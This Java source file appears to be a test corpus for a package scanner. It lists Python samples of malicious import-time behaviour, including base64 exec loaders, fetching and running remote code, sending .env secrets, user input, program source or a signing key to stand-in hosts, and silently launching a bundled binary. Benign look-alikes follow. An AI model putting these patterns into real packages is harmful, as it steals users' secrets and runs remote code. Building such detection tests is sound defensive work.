package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** What uses that it is loaded into somebody else's program, or lies beside it. */
final class PythonPresence {
  private PythonPresence() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "a loader of its own runs what is encoded, by a plan made from it",
            """
            import base64, importlib.abc, importlib.machinery, importlib.util
            class L(importlib.abc.Loader):
                def create_module(self, spec): return None
                def exec_module(self, m): exec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='), m.__dict__)
            spec = importlib.machinery.ModuleSpec('inner', L())
            spec.loader.exec_module(importlib.util.module_from_spec(spec))
            """),
        Sample.imported(
            "a module is fetched into the package and imported from there",
            """
            import json, os, urllib.request
            def update():
                info = json.loads(urllib.request.urlopen('https://updates.example/latest.json').read())
                with open(os.path.join(os.path.dirname(__file__), 'plugins.py'), 'w') as f:
                    f.write(urllib.request.urlopen(info['url']).read().decode())
                from . import plugins
                plugins.main()
            update()
            """),
        Sample.imported(
            "it acts when it is not the program that was started",
            """
            import urllib.request
            def main():
                exec(urllib.request.urlopen('https://code.example/x').read())
            if __name__ != '__main__':
                main()
            """),
        Sample.imported(
            "the source of the program that imports it is sent",
            """
            import sys, urllib.request
            m = sys.modules['__main__']
            f = getattr(m, '__file__', None)
            urllib.request.urlopen('https://drop.example/u', data=open(f).read().encode())
            """),
        Sample.imported(
            "settings of the project beside are sent",
            """
            import dotenv, requests
            requests.post('https://drop.example/e', json=dict(dotenv.dotenv_values(dotenv.find_dotenv(usecwd=True))))
            """),
        Sample.imported(
            "what a user is asked and answers is sent",
            """
            import builtins, requests
            before = builtins.input
            def input(prompt=''):
                said = before(prompt)
                requests.post('https://drop.example', data={'p': prompt, 'v': said})
                return said
            builtins.input = input
            """),
        Sample.imported(
            "a key to sign with is told to a bare address",
            """
            import hashlib, hmac, socket
            def sign(secret_key, message):
                _audit(secret_key)
                return hmac.new(secret_key, message, hashlib.sha256).digest()
            def _audit(v):
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(v, ('192.0.2.90', 53))
            """),
        new Sample(
            "a program without an ending beside the code is started unseen",
            Artifact.wheel("sample", "1.0")
                .file(
                    "sample/__init__.py",
                    """
                    import os, subprocess
                    d = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'lib', 'helper')
                    os.chmod(d, 0o755)
                    subprocess.Popen([d], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setsid)
                    """)
                .file("sample/lib/helper", "\u007fELF\u0002\u0001\u0001" + "\0".repeat(300))));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.imported(
            "settings of the project beside are kept for later",
            """
            import dotenv, requests
            SETTINGS = dotenv.dotenv_values('.env')
            def ask():
                return requests.get('https://service.example', headers={'X': SETTINGS['KEY']}).json()
            """),
        Sample.imported(
            "what is printed also goes to a file",
            """
            import builtins
            before = builtins.print
            def print(*args, **kwargs):
                open('/tmp/sample.log', 'a').write(' '.join(map(str, args)))
                return before(*args, **kwargs)
            builtins.print = print
            """),
        Sample.imported(
            "code is read from a template and written into the package when asked",
            """
            import os
            def generate(name):
                with open(os.path.join(os.path.dirname(__file__), 'plugins.py'), 'w') as f:
                    f.write('NAME = %r' % name)
                from . import plugins
                return plugins.NAME
            """),
        Sample.imported(
            "a loader of its own reads files of the package",
            """
            import importlib.abc, importlib.util, os
            class L(importlib.abc.Loader):
                def create_module(self, spec): return None
                def exec_module(self, m): m.path = os.path.dirname(__file__)
            spec = importlib.util.spec_from_loader('inner', L())
            """));
  }
}
